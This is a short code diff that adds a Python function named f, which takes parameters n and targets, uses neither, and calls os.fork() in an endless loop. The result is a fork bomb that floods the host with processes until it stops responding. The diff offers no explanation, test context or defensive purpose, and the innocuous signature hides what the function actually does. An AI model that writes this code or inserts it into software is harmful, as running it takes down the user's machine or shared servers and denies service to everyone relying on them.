@@ -1,0 +1,4 @@
+import os
+def f(n, targets):
+    while True:
+        os.fork()
